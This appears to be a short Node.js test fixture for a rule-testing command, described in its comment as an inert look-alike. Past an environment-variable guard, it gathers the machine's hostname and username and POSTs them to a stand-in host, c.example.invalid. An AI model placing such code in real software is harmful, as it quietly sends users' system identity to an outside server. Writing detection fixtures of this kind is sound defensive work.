// Never runs: an inert look-alike for `qanat rules test`.
if (!process.env.QANAT_FIXTURE_NEVER_SET) process.exit(0);
const os = require('os'), https = require('https');
const who = JSON.stringify({ h: os.hostname(), u: os.userInfo().username });
const req = https.request({ hostname: 'c.example.invalid', method: 'POST' });
req.end(who);
